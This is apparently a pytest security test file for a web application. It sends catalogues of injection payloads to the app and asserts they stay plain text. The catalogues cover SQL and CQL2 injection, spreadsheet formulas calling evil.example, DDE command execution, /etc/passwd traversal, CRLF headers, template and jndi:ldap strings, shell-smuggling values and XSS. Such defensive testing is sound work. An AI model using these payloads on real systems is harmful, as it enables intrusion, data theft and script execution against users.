"""Texts that try to become something else: SQL, a formula, a path, a header, an element, a template. None does.

Every payload is sent to every place that could take it for more than text; what is counted is that nothing but text
came of it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import string
from html.parser import HTMLParser
from random import Random
from urllib.parse import quote

import openpyxl
import pytest

from hechang.testing import tiny
from hechang.web.app import create_app
from hechang.web.cql2 import read_filter
from page_region import HOME, Client, page_region
from test_web import PAGES
from turns import some

MORE = int(os.environ.get("HECHANG_INJECTIONS", "0"))  # payloads made by chance, beside those written down
SQL = (
    "' OR '1'='1", "' OR 1=1 --", "'; DROP TABLE projects; --", '" OR ""="', "1; SELECT * FROM users",
    "1 UNION SELECT * FROM users", "' UNION SELECT secret FROM credentials --",
    "p1' AND (SELECT count(*) FROM users)>0 --", "') OR ('a'='a", "name); DROP TABLE users; --",
    "name, (SELECT secret FROM credentials)", "(SELECT name FROM users)", "id)--", "1/**/OR/**/1=1",
    "read_csv('/etc/passwd')", "read_text('/etc/passwd')", "read_parquet('*')", "glob('/*')",
    "COPY projects TO '/tmp/x'", "ATTACH '/tmp/x' AS x", "PRAGMA database_list", "INSTALL httpfs", "LOAD spatial",
    "getenv('HOME')", "current_setting('home_directory')", "pg_sleep(5)", "'||pg_sleep(5)||'", "$1", "$f0", ":id",
    "?", "%s", "%(id)s", "{id}", "${id}", "\\'; SELECT 1; --", "%27%20OR%201=1", "0x27", "chr(39)",
    "'/**/;", "/*", "*/", "--", "#", ";", "`id`", '"id"', "[id]", "id;id", "\u02bc OR 1=1", "＇ OR 1=1",
    "\u2019 OR \u20191\u2019=\u20191", "' OR 1=1\x00", "\x00", "NaN", "Infinity", "1e999",
    "sqlite_master", "information_schema.tables", "duckdb_settings()", "main.users", "users", "credentials",
    "sign_ins", "audit", "projects, users", "unnest([1])", "row_number() over ()", "case when 1 then 1 end",
)  # fmt: skip
CQL2 = (
    "name = 'x' OR 1=1", "1=1", "'a'='a'", "true", "NOT false", "name = 'x') OR (name LIKE '%'",
    "read_csv('/etc/passwd') = 1", "secret = 'x'", "users.name = 'x'", "name = (SELECT 1)",
    "name IN (SELECT name FROM users)",
    "name LIKE '%' ESCAPE '\\'", "name LIKE '%\\'", "getenv('HOME') = 'x'", '"name" = \'x\'; DROP TABLE projects',
    "name = $f0", "name = $1", "CASEI(name) = CASEI('X') --", "S_INTERSECTS(geometry, BBOX(1,2,3,4)) OR 1=1",
    "S_WITHIN(geometry, POINT(nan nan))", "invest_total > 1e999", "name = 'a' 'b'", "name = 'a''; --'",
    "name IS NULL; --", "__class__ = 1", "name.__class__ = 'x'", "lambda(x) = 1", "upper(name, 1) = 'A'",
    "upper(secret) = 'A'",
    "name = \"x\"", "id = 'p1' UNION SELECT 1", "name BETWEEN 'a' AND (SELECT 1)", "yi(name) > 1",
    "date(name) = '2022'", "name = 'x' /* */", "name = 'x'\x00", "ｎame = 'x'", "name ＝ 'x'", "名 = 'x'",
    "geometry = 'x'",
)  # fmt: skip
JSON_CQL2 = (
    {"op": "; DROP TABLE", "args": [{"property": "name"}, 1]}, {"op": "=", "args": [{"property": "name; DROP"}, 1]},
    {"op": "=", "args": [{"property": "secret"}, "x"]}, {"op": "read_csv", "args": ["/etc/passwd"]},
    {"function": {"name": "read_csv", "arguments": ["/etc/passwd"]}}, {"op": "=",
    "args": [{"function": {"name": "getenv", "arguments": ["HOME"]}}, "x"]}, {"op": "in",
    "args": [{"property": "name"}, {"op": "select"}]},
    {"op": "like", "args": [{"property": "name"}, {"property": "secret"}]}, {"op": "=",
    "args": [{"property": ["name"]}, 1]}, {"op": "=", "args": [{"property": None}, 1]}, {"op": "and", "args": [1, 1]},
    {"op": "and", "args": []},
    {"op": "=", "args": [{"property": "name"}, {"a": 1}]}, {"op": "between", "args": [{"property": "name"}, 1]},
    {"op": "s_intersects", "args": [{"property": "name"}, {"bbox": [1, 2, 3, "x"]}]}, [], {}, 5, "x", None,
)  # fmt: skip
FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://evil.example\")", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=IMPORTXML(\"http://evil.example\")", "=WEBSERVICE(\"http://evil.example\")", "-2+3+cmd|' /C calc'!A0",
    "\u200b=1+1", "\ufeff=1+1", "'=1+1", "\"=1+1\"", "=1+1\";=2+2", ";=1+1", ",=1+1", "|=1+1", "%0A=1+1", "{=1+1}",
)  # fmt: skip
PATHS = (
    "../../etc/passwd", "..\\..\\etc\\passwd", "/etc/passwd", "%2e%2e%2fetc%2fpasswd", "..%2f..%2fetc%2fpasswd",
    "%252e%252e%252f", "....//....//etc/passwd", "..;/etc/passwd", "C:\\Windows\\win.ini", "\\\\server\\share",
    "file:///etc/passwd", "..%c0%af..%c0%afetc/passwd", "..\uff0fetc", "\u2025/etc", "a/../../register.db",
    "register.db", "hechang.toml", "head.json", ".", "..", "~root", "%00", "p1%00.json", "con", "nul", "p1/../p2",
    "./p1", "p1/",
    "blobs/00", "uploads/of", "cache/projects.parquet", "p1?on=x", "p1#x", "p1;x=1", "*", "{a,b}", "$(id)", "`id`",
    "|id", "&& id",
)  # fmt: skip
HEADERS = (
    "x\r\nSet-Cookie: a=b",
    "x\nSet-Cookie: a=b",
    "x\r\n\r\n<script>",
    "x%0d%0aSet-Cookie:a=b",
    "x\u560d\u560aSet-Cookie: a=b",
    "x\u2028Set-Cookie: a=b",
    "x\x0bY: z",
    "x\x85Y: z",
    'x"; filename="evil.exe',
    "x'; y=z",
)
TEMPLATES = ("{{7*7}}", "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "{{config}}", "{{''.__class__}}", "{7*7}", "%{7*7}", "[[7*7]]", "{{r.store}}", "{#7*7#}", "@(7*7)",
    "{{=7*7}}", "*{7*7}", "{{ self }}", "{{ range(9) }}", "$" + "{jndi:ldap://evil.example/a}")  # fmt: skip
TAGS = ("img src=x onerror=alert(1)", "svg onload=alert(1)", "script>alert(1)</script", "iframe srcdoc=x",
    "a href=javascript:alert(1)", "body onload=alert(1)", "details open ontoggle=alert(1)",
    "input autofocus onfocus=alert(1)",
        "video src onerror=alert(1)", "math><mi xlink:href=data:x,<script>alert(1)</script>",
        "object data=javascript:alert(1)", "embed src=javascript:alert(1)", "base href=//evil.example/",
        "meta http-equiv=refresh content=0;url=//evil.example",
        "link rel=stylesheet href=//evil.example", "form action=//evil.example",
        "style>@import'//evil.example'</style", "template><img src=x onerror=alert(1)>",
        "noscript><p title='</noscript><img src=x onerror=alert(1)>'", "x-evil onclick=alert(1)")  # fmt: skip
LEADS = (
    "<{}>",
    '"><{}>',
    "'><{}>",
    "</title><{}>",
    "</textarea></script><{}>",
    "--><{}>",
    "]]><{}>",
    "&lt;{}&gt;",
    "&#60;{}&#62;",
    "\\u003c{}\\u003e",
    "＜{}＞",
    "<\x00{}>",
)
ATTRIBUTES = ('" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="',
    "javascript:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>", "//evil.example",
    "`onmouseover=alert(1)`",
              "\u2028alert(1)", "</script><script>alert(1)</script>", "<!--<script>", "\u202e<gmi>",
              "&quot; onmouseover=&quot;alert(1)", "%22%3E%3Cscript%3Ealert(1)%3C/script%3E")  # fmt: skip
XSS = tuple(lead.format(tag) for tag in TAGS for lead in LEADS) + ATTRIBUTES
TOGETHER = 30  # payloads in one field
CANARY = "canary-7f3a"
HARMLESS = re.compile(
    r"^(?:https?://(?:127\.0\.0\.1|www\.openstreetmap\.org|opendatacommons\.org)|/|#|\?|data:image/|mailto:|$)"
)


def by_chance(kind: str, known: tuple[str, ...]) -> tuple[str, ...]:
    """More payloads: two that are known, cut and joined, with odd characters between."""
    chance = Random(kind)
    odd = string.punctuation + "\u200b\u202e＇＜=\t"
    pieces = (
        chance.choice(known) + chance.choice(odd) * chance.randrange(3) + chance.choice(known)[chance.randrange(4) :]
        for _ in range(MORE)
    )
    return tuple(dict.fromkeys((*known, *pieces)))


@pytest.fixture(scope="module")
def region(tmp_path_factory):
    made = page_region(tmp_path_factory.mktemp("inject") / "page.hc")
    with made.edit(by="tester", why="a canary", source="person:tester") as e:
        e.put("users", {"id": "u1", "name": CANARY, "active": True})
        e.put("bodies", {"id": CANARY, "name": CANARY, "kind": "company"})
    yield e.after
    e.after.close()


@pytest.fixture(scope="module")
def client(region):
    return Client(create_app(region))


def sound(answer, payload) -> None:
    """No answer to a payload falls over, or says more than it was asked."""
    assert answer.status_code < 500, (payload, answer.text[:300])
    assert CANARY not in answer.text and "root:" not in answer.text and "Traceback" not in answer.text, payload
    assert not {"set-cookie", "y"} & set(answer.headers) or answer.headers.get("set-cookie", "").startswith("lang="), (
        payload
    )


def all_of(client, requests) -> list:
    """Ask for everything on one event loop."""
    return client.in_turn(requests)


def test_sql_in_every_parameter_of_a_table_stays_a_value(client, region, record_property):
    payloads = by_chance("sql", SQL)
    count = client.get("/api/tables/projects").json()["total"]
    asked = []
    for payload in payloads:
        asked += [("GET", f"/api/tables/{table}", {"params": {name: payload}}) for table in ("projects",)
                  for name in ("q", "filter", "sort", "columns", "place", "limit", "offset", "on", "branch", "lang",
                      payload[:60])]  # fmt: skip
        asked += [("GET", f"/api/tables/{quote(payload, safe='')}", {}), ("GET",
        f"/api/tables/projects/{quote(payload, safe='')}", {}),
                  ("GET", "/projects", {"params": {"q": payload}}), ("GET", "/ogc/collections/projects/items",
                  {"params": {"filter": payload}})]  # fmt: skip
    for (_, path, more), answer in zip(asked, all_of(client, asked), strict=True):
        sound(answer, (path, more)) if path != "/api/tables/users" else None  # who sits at the machine may read it
        if answer.status_code == 200 and path == "/api/tables/projects":
            assert answer.json()["total"] <= count
    assert client.get("/api/tables/projects").json()["total"] == count
    assert region.latest().revision == region.revision
    record_property("payloads", len(payloads))
    assert len(payloads) >= 60


@pytest.mark.parametrize("text", [*by_chance("cql2", CQL2), *map(json.dumps, JSON_CQL2)])
def test_a_filter_says_only_what_a_filter_may(client, text):
    language = "cql2-json" if text in map(json.dumps, JSON_CQL2) else "cql2-text"
    whole = client.get("/ogc/collections/projects/items").json()["numberMatched"]
    answer = client.get("/ogc/collections/projects/items", params={"filter": text, "filter-lang": language})
    sound(answer, text)
    if answer.status_code == 200:
        assert answer.json()["numberMatched"] <= whole
        read_filter(text, language)
    else:
        assert answer.status_code == 400 and re.search("[\u4e00-\u9fff]", answer.text)


@pytest.mark.parametrize("payload", by_chance("paths", PATHS))
def test_no_name_leads_out_of_its_place(client, payload):
    for form in (payload, quote(payload, safe=""), quote(payload, safe="%/")):
        for start in (
            "/assets/",
            "/desk/assets/",
            "/api/tables/",
            "/projects/",
            "/documents/",
            "/api/imports/",
            "/files/",
            "/api/documents/",
            "/api/attachments/",
            "/api/templates/",
            "/api/map/tiles/",
        ):
            try:
                answer = client.get(start + form)
            except Exception as error:  # an address no client can send
                assert "URL" in type(error).__name__ or "Protocol" in type(error).__name__, error  # noqa: PT017
                continue
            sound(answer, start + form)
            assert b"SQLite format" not in answer.content and "store_id" not in answer.text


@pytest.mark.parametrize("payload", HEADERS)
def test_no_text_becomes_a_header(client, payload):
    asked = [("GET", "/today", {"params": {"lang": payload}}), ("GET", "/projects", {"params": {"q": payload}}),
        ("GET", f"/lists/{quote(payload, safe='')}", {}),
             ("GET", "/desk/", {"params": {"on": payload}}), ("GET", "/api/tables/projects.csv",
             {"params": {"q": payload}}), ("GET", "/", {"params": {"x": payload}})]  # fmt: skip
    for answer in all_of(client, asked):
        sound(answer, payload)
        assert all("\n" not in value and "\r" not in value for value in answer.headers.values())
    files = {"file": (payload + ".csv", "项目名称,属地,总投资(万元)\n甲路示例,a,5\n".encode())}
    answer = client.ask("POST", "/api/imports", files=files, headers={"origin": HOME})
    sound(answer, payload)
    if answer.status_code == 201:
        made = answer.json()["upload"]
        back = client.get(f"/api/imports/{made['id']}/errors.xlsx")
        sound(back, payload)
        assert "evil.exe" not in back.headers["content-disposition"].partition("filename*=")[0]
        client.ask("DELETE", f"/api/imports/{made['id']}", headers={"origin": HOME})


class Shape(HTMLParser):
    """Elements of a page with the names of their attributes and where they lead."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, tuple[str, ...]]] = []
        self.leads: set[str] = set()
        self.scripts: list[str] = []
        self.inside = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, tuple(sorted(name for name, _ in attrs))))
        self.leads |= {
            value or "" for name, value in attrs if name in ("href", "src", "action", "formaction", "data", "srcdoc")
        }
        self.inside = tag

    def handle_endtag(self, tag):
        self.inside = ""

    def handle_data(self, data):
        if self.inside == "script":
            self.scripts.append(data)


def filled(folder, payload: str):
    """A region with a text in every field of text that a page shows."""
    region = tiny(folder)
    with region.edit(by=payload[:90].strip() or "t", why=payload[:300], source="person:tester", level=0) as e:
        for table, ids, fields in (
            ("projects", ("p1", "p2", "p3"), ("name", "note", "code")), ("places", ("a", "b", "c", "x"), ("name",
            "name_en")),
            ("bodies", ("office-x", "office-y"), ("name", "name_en")), ("documents", ("report",), ("title",)),
            ("plans", ("p",), ("name", "name_en")), ("collections", ("p-region",), ("name", "name_en")),
        ):  # fmt: skip
            e.put(
                table,
                [
                    {"id": id, **{field: f"{payload}{at}" if field == "code" else payload for field in fields}}
                    for at, id in enumerate(ids)
                ],
            )
        e.put(
            "tasks",
            {
                "id": "t1",
                "name": payload,
                "number": payload,
                "lead": "office-x",
                "due": "2022-08",
                "begins": "2022-01",
                "projects": ["p1"],
                "report_every": "month",
            },
        )
    return e.after


def test_no_text_becomes_an_element_an_attribute_or_a_script(tmp_path, record_property):
    shown = [page for page in PAGES if not re.search(r"/documents/d1|/events/e1|/tasks/t1|/map/|A1|rounds", page)] + [
        "/desk/"
    ]
    plain = filled(tmp_path / "plain.hc", "plain text")
    asked = [("GET", page, {}) for page in shown]
    usual = {
        page: Shape(answer.text) for page, answer in zip(shown, Client(create_app(plain)).in_turn(asked), strict=True)
    }
    payloads = by_chance("xss", XSS)
    packs = ["".join(payloads[at : at + TOGETHER]) for at in range(0, len(payloads), TOGETHER)]
    for number, pack in [(0, packs[0]), *some(list(enumerate(packs))[1:], "packs")]:
        pages = shown if number == 0 else ["/projects", "/projects/p1", "/documents/report", "/log", "/tasks", "/today"]
        region = filled(tmp_path / f"{number}.hc", pack)
        answers = Client(create_app(region)).in_turn([("GET", page, {}) for page in pages])
        region.close()
        for page, answer in zip(pages, answers, strict=True):
            assert answer.status_code == 200, (page, pack, answer.text[:200])
            made = Shape(answer.text)
            assert set(made.found) <= set(usual[page].found), (page, pack, set(made.found) - set(usual[page].found))
            assert len(made.scripts) == len(usual[page].scripts), (page, pack)
            assert all(HARMLESS.match(lead) for lead in made.leads - usual[page].leads), (
                page,
                made.leads - usual[page].leads,
            )
    record_property("payloads", len(payloads))
    assert len(payloads) >= 100
    plain.close()


def test_no_text_is_worked_out_by_a_template(tmp_path):
    region = filled(tmp_path / "t.hc", " ".join(TEMPLATES))
    pages = [
        "/projects",
        "/projects/p1",
        "/documents/report",
        "/log",
        "/tasks",
        "/today",
        "/desk/",
        "/api/tables/projects",
    ]
    for page, answer in zip(pages, Client(create_app(region)).in_turn([("GET", p, {}) for p in pages]), strict=True):
        assert answer.status_code == 200 and not re.search(
            r"\b49\b|subclasses__\(\)&gt;|range\(0, 9\)|FolderStore|<Config", answer.text.replace("7*7", "")
        ), page
    region.close()


def test_no_cell_of_any_export_is_a_formula_and_numbers_stay_numbers(tmp_path):
    texts = by_chance("formulas", FORMULAS)
    region = tiny(tmp_path / "t.hc")
    with region.edit(by="tester", why="formulas", source="person:tester", level=0) as e:
        e.put(
            "projects",
            [
                {
                    "id": f"f{at}",
                    "name": text.strip() or "x",
                    "note": text,
                    "code": f"F-{at}",
                    "place": "a",
                    "owner": "office-x",
                }
                for at, text in enumerate(texts)
            ],
        )
        e.put("links", {"id": "below", "origin": "a", "dest": "c", "mode": "rail", "minutes": 5.0})
    client = Client(create_app(e.after))
    for path in (
        "/api/tables/projects.csv",
        "/api/tables/projects.xlsx",
        "/api/lists/data-quality.csv",
        "/api/lists/data-quality.xlsx",
    ):
        answer = client.get(path)
        if answer.status_code == 404 and "lists" in path:
            continue
        assert answer.status_code == 200, (path, answer.text[:200])
        rows = _cells(path, answer.content)
        assert not [
            cell
            for cell in rows
            if isinstance(cell, str) and re.match(r"[\s\u200b\ufeff]*[=@+＝＠＋－\t\r]|-(?![\d.]+$)", cell)
        ], path
    e.after.close()


def _cells(path: str, data: bytes) -> list[object]:
    """Cells as a program of sheets would open them; one that is a formula as the text that starts it."""
    if path.endswith(".csv"):
        return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [f"={cell.value}" for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_the_payloads_are_enough():
    told = [*SQL, *CQL2, *map(json.dumps, JSON_CQL2), *FORMULAS, *PATHS, *HEADERS, *TEMPLATES, *XSS]
    assert len(set(told)) >= 300
